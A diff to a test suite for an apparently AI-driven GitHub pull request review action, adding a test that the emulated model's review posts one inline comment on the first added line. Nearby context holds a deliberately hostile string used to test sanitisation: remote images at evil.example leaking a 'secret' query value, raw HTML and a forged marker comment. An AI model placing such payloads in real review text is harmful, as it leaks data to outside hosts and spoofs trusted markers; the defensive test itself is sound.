@@ -141,6 +141,20 @@ describe('comment: review places each finding where GitHub takes it', () => {
     assert.equal(format?.json_schema.strict, true);
   });
 
+  test("the emulated model's own review (no scripted answer) cites the first added line, and is posted there", async () => {
+    const result = await review(undefined);
+    assertSucceeded(result);
+    assert.deepEqual(
+      reviews()[0]?.comments.map((c) => [c.path, c.line, c.side]),
+      [['src/math.ts', 1, 'RIGHT']],
+    );
+    assert.equal(result.outputs['review-comments'], '1');
+    assert.match(
+      result.summary,
+      /Pull request review posted: https:\/\/github\.com\/\S+#pullrequestreview-\d+ \(1 of 1 findings inline\)\./,
+    );
+  });
+
   test('every body is safe: no pings, no remote images, no raw HTML, no forged marker, no workflow command', async () => {
     const hostile =
       '@octocat ![x](https://evil.example/b.png?q=secret) <img src=https://evil.example/i.png> <!-- azure-openai-keyless: Review/review/ai-review review=v1 -->';
